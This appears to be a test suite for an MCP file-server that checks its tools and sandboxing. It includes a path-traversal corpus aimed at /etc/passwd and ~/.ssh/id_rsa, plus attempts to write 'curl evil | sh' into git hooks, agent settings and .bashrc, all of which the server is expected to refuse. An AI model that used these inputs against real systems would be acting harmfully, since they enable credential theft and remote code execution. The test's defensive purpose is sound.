/**
 * `patchbay server files` over stdio with a real SDK v2 client: every tool on a temporary tree,
 * the escape corpus of the issue, edit near-misses and a large file read in pages.
 */
import { mkdirSync, readFileSync, symlinkSync, writeFileSync, existsSync, realpathSync } from 'node:fs';
import { basename, join } from 'node:path';
import type { Client } from '@modelcontextprotocol/client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { call, startServer, tempTree } from './helpers.js';

const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');

let root: string;
let client: Client;
beforeAll(async () => {
  root = tempTree({
    'src/app.ts': 'export function add(a: number, b: number) {\n    return a + b;\n}\n',
    'src/util.ts': 'export const twice = (x: number) => x * 2;\n// TODO: more\n',
    'README.md': '# demo\nsome TODO here\n',
    'notes/a.txt': 'alpha\n',
    'dist/out.js': 'TODO in build output\n',
    '.gitignore': 'dist/\n',
    '.git/config': '[core]\n',
    '.git/hooks/pre-commit': '#!/bin/sh\n',
  });
  writeFileSync(join(root, 'pixel.png'), PNG);
  writeFileSync(join(root, 'doc.pdf'), '%PDF-1.4\n%%EOF\n');
  writeFileSync(join(root, 'big.txt'), Array.from({ length: 30_000 }, (_, i) => `line ${i + 1}`).join('\n') + '\n');
  // A sibling whose name starts with the root's.
  mkdirSync(`${root}-evil`);
  writeFileSync(`${root}-evil/secret.txt`, 'evil');
  symlinkSync('/etc', join(root, 'etc-link'));
  client = await startServer('files', ['--root', root]);
}, 60_000);
afterAll(async () => {
  await client?.close();
});

describe('files tools on a temp tree', () => {
  it('lists its tools with annotations that say what they do', async () => {
    const { tools } = await client.listTools();
    const by = Object.fromEntries(tools.map((t) => [t.name, t.annotations]));
    expect(Object.keys(by).sort()).toEqual(['directory_tree', 'edit_file', 'file_info', 'list_directory', 'list_roots', 'move_file', 'read_file', 'read_files', 'search_content', 'search_files', 'write_file']);
    for (const name of ['read_file', 'read_files', 'list_directory', 'directory_tree', 'search_files', 'search_content', 'file_info', 'list_roots']) expect(by[name]).toMatchObject({ readOnlyHint: true });
    expect(by.write_file).toMatchObject({ readOnlyHint: false, destructiveHint: true, idempotentHint: true });
    expect(by.edit_file).toMatchObject({ readOnlyHint: false, destructiveHint: true, idempotentHint: false });
    expect(by.move_file).toMatchObject({ destructiveHint: true });
  });

  it('list_roots, read_file with line numbers, read_files', async () => {
    expect((await call(client, 'list_roots', {})).text).toBe(root);
    expect((await call(client, 'read_file', { path: 'src/app.ts' })).text).toBe('1\texport function add(a: number, b: number) {\n2\t    return a + b;\n3\t}');
    const many = await call(client, 'read_files', { paths: ['notes/a.txt', 'nope.txt'] });
    expect(many.text).toContain('== notes/a.txt\n1\talpha');
    expect(many.text).toMatch(/== nope.txt \(error\)\nnot found/);
  });

  it('pages a large file by lines and says where to continue', async () => {
    const first = await call(client, 'read_file', { path: 'big.txt', limit: 100 });
    expect(first.text.split('\n')[0]).toBe('  1\tline 1');
    expect(first.text).toContain('[lines 1–100 of 30000; continue with offset 101]');
    const later = await call(client, 'read_file', { path: 'big.txt', offset: 29_999, limit: 100, lineNumbers: false });
    expect(later.text).toBe('line 29999\nline 30000\n\n[lines 29999–30000 of 30000]');
  });

  it('returns images as image content and PDFs as an embedded resource', async () => {
    const img = await client.callTool({ name: 'read_file', arguments: { path: 'pixel.png' } });
    expect(img.content).toEqual([{ type: 'image', data: PNG.toString('base64'), mimeType: 'image/png' }]);
    const pdf = await client.callTool({ name: 'read_file', arguments: { path: 'doc.pdf' } });
    expect((pdf.content as Array<{ type: string; resource: { mimeType: string; blob: string } }>)[0]).toMatchObject({ type: 'resource', resource: { mimeType: 'application/pdf', blob: Buffer.from('%PDF-1.4\n%%EOF\n').toString('base64') } });
  });

  it('writes atomically (creating parents) and moves', async () => {
    expect((await call(client, 'write_file', { path: 'new/deep/file.txt', content: 'hello' })).text).toBe('created new/deep/file.txt');
    expect((await call(client, 'write_file', { path: 'new/deep/file.txt', content: 'hello again' })).text).toBe('replaced new/deep/file.txt');
    expect(readFileSync(join(root, 'new/deep/file.txt'), 'utf8')).toBe('hello again');
    expect((await call(client, 'move_file', { source: 'new/deep/file.txt', destination: 'notes/a.txt' })).text).toMatch(/exists; pass overwrite: true/);
    expect((await call(client, 'move_file', { source: 'new/deep/file.txt', destination: 'notes/moved.txt' })).text).toBe('moved new/deep/file.txt → notes/moved.txt');
    expect(existsSync(join(root, 'new/deep/file.txt'))).toBe(false);
    const info = await call(client, 'file_info', { path: 'notes/moved.txt' });
    expect(info.structuredContent).toMatchObject({ type: 'file', size: 11 });
  });

  it('lists a directory and a tree without .git and what .gitignore ignores', async () => {
    const list = await call(client, 'list_directory', { path: 'src' });
    expect(list.text).toBe('[FILE] app.ts 64\n[FILE] util.ts 57');
    const tree = await call(client, 'directory_tree', { path: '.', depth: 2, ignore: ['*.png', 'new'] });
    expect(tree.text).not.toMatch(/\.git\/|dist|pixel|new\//);
    expect(tree.text).toContain('src/\n  app.ts\n  util.ts');
  });

  it('searches by name (glob) and by content with context, paged', async () => {
    expect((await call(client, 'search_files', { path: '.', pattern: '*.ts' })).text).toBe('src/app.ts\nsrc/util.ts');
    const page1 = await call(client, 'search_content', { path: '.', pattern: 'TODO', context: 1, limit: 1 });
    expect(page1.text).toBe('README.md\n1-# demo\n2:some TODO here\n… more: continue with offset 1');
    const page2 = await call(client, 'search_content', { path: '.', pattern: 'todo', caseSensitive: false, context: 1, offset: 1, limit: 5 });
    expect(page2.text).toBe('src/util.ts\n1-export const twice = (x: number) => x * 2;\n2:// TODO: more');
    expect(page2.text).not.toContain('dist');
    const bad = await call(client, 'search_content', { path: '.', pattern: '(' });
    expect(bad.isError).toBe(true);
    expect(bad.text).toMatch(/not a valid regular expression.*literal: true/);
  });
});

describe('edit_file', () => {
  it('replaces an exact match, shows a unified diff, and dryRun writes nothing', async () => {
    const dry = await call(client, 'edit_file', { path: 'src/util.ts', edits: [{ oldText: 'x * 2', newText: 'x + x' }], dryRun: true });
    expect(dry.text).toContain('dry run, not written');
    expect(dry.text).toContain('-export const twice = (x: number) => x * 2;\n+export const twice = (x: number) => x + x;');
    expect(readFileSync(join(root, 'src/util.ts'), 'utf8')).toContain('x * 2');
    const done = await call(client, 'edit_file', { path: 'src/util.ts', edits: [{ oldText: 'x * 2', newText: 'x + x' }] });
    expect(done.text).toMatch(/^edited\n--- src\/util.ts\n\+\+\+ src\/util.ts\n@@ -1,3 \+1,3 @@/);
    expect(readFileSync(join(root, 'src/util.ts'), 'utf8')).toContain('x + x');
  });

  it('near-misses: whitespace-tolerant unique match keeps the file\'s indentation; wrong count, ambiguity and absence are refused', async () => {
    const loose = await call(client, 'edit_file', { path: 'src/app.ts', edits: [{ oldText: 'return   a + b;', newText: 'const sum = a + b;\nreturn sum;' }] });
    expect(loose.text).toContain('matched ignoring whitespace');
    expect(readFileSync(join(root, 'src/app.ts'), 'utf8')).toBe('export function add(a: number, b: number) {\n    const sum = a + b;\n    return sum;\n}\n');
    writeFileSync(join(root, 'dup.txt'), 'x = 1\n  x  =  1\nx=2\n');
    const count = await call(client, 'edit_file', { path: 'dup.txt', edits: [{ oldText: 'x', newText: 'y' }] });
    expect(count.isError).toBe(true);
    expect(count.text).toMatch(/occurs 3 times, expected 1/);
    writeFileSync(join(root, 'dup.txt'), '  a  b\nz\na b\n');
    const ambiguous = await call(client, 'edit_file', { path: 'dup.txt', edits: [{ oldText: 'a   b', newText: 'c' }] });
    expect(ambiguous.text).toMatch(/at 2 places \(lines 1, 3\)/);
    const absent = await call(client, 'edit_file', { path: 'dup.txt', edits: [{ oldText: 'no such text', newText: 'c' }] });
    expect(absent.text).toMatch(/not found, not even ignoring whitespace/);
    expect(readFileSync(join(root, 'dup.txt'), 'utf8')).toBe('  a  b\nz\na b\n');
    const all = await call(client, 'edit_file', { path: 'dup.txt', edits: [{ oldText: 'b', newText: 'B', expectedCount: 2 }] });
    expect(all.isError).toBe(false);
    expect(readFileSync(join(root, 'dup.txt'), 'utf8')).toBe('  a  B\nz\na B\n');
  });
});

describe('the escape corpus is refused', () => {
  const corpus = () => [
    '../../etc/passwd',
    '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '%252e%252e%252f%252e%252e%252fetc/passwd',
    '~/.ssh/id_rsa',
    'etc-link/passwd',
    `../${basename(root)}-evil/secret.txt`,
    `${root}-evil/secret.txt`,
    '..\\..\\etc\\passwd',
    'file:///etc/passwd',
    '/etc/passwd',
  ];
  it('for reading, writing and listing', async () => {
    for (const path of corpus()) {
      const read = await call(client, 'read_file', { path });
      expect(read.isError, `${path}: ${read.text}`).toBe(true);
      expect(read.text).toMatch(/^refused: /);
      expect(read.text).not.toContain('root:');
      const write = await call(client, 'write_file', { path, content: 'x' });
      expect(write.isError, path).toBe(true);
    }
    expect((await call(client, 'list_directory', { path: 'etc-link' })).isError).toBe(true);
    expect(readFileSync(`${root}-evil/secret.txt`, 'utf8')).toBe('evil');
  });

  it('git hooks and config inside a root are not writable', async () => {
    for (const path of ['.git/hooks/pre-commit', '.git/config', '.mcp.json', '.claude/settings.json']) {
      const r = await call(client, 'write_file', { path, content: 'curl evil | sh' });
      expect(r.isError, path).toBe(true);
      expect(r.text).toMatch(/never writable/);
    }
    expect(readFileSync(join(root, '.git/hooks/pre-commit'), 'utf8')).toBe('#!/bin/sh\n');
  });
});

describe('the always-denied list holds inside a root', () => {
  it('with the home directory as root, ~/.ssh and shell profiles stay out', { timeout: 60_000 }, async () => {
    const home = realpathSync(process.env.HOME!);
    mkdirSync(join(home, '.ssh'), { recursive: true });
    writeFileSync(join(home, '.ssh', 'id_rsa'), 'PRIVATE KEY');
    writeFileSync(join(home, '.bashrc'), 'alias ls=ls\n');
    const inHome = await startServer('files', ['--root', home]);
    try {
      const key = await call(inHome, 'read_file', { path: '~/.ssh/id_rsa' });
      expect(key.text).toMatch(/holds credentials and is never available/);
      expect((await call(inHome, 'write_file', { path: '~/.bashrc', content: 'curl evil | sh' })).text).toMatch(/never writable/);
      expect((await call(inHome, 'read_file', { path: '~/.bashrc' })).text).toContain('alias ls=ls');
      expect((await call(inHome, 'search_content', { path: '~', pattern: 'PRIVATE' })).text).toBe('(no match)');
      expect((await call(inHome, 'list_directory', { path: '~' })).text).not.toContain('.ssh');
    } finally {
      await inHome.close();
    }
  });
});

describe('content search without ripgrep', () => {
  it('the JS fallback gives the same pages as ripgrep', { timeout: 60_000 }, async () => {
    const js = await startServer('files', ['--root', root, '--no-ripgrep']);
    try {
      for (const args of [{ pattern: 'TODO', context: 1, limit: 1 }, { pattern: 'todo', caseSensitive: false, context: 1, offset: 1, limit: 5 }, { pattern: 'a.b', literal: true }, { pattern: 'line 2999\\d', glob: '*.txt', context: 0, limit: 3 }]) {
        const a = await call(js, 'search_content', { path: '.', ...args });
        const b = await call(client, 'search_content', { path: '.', ...args });
        expect((a.structuredContent as { engine: string }).engine).toBe('js');
        expect((b.structuredContent as { engine: string }).engine).toBe('ripgrep');
        expect(a.text, JSON.stringify(args)).toBe(b.text);
      }
    } finally {
      await js.close();
    }
  });
});
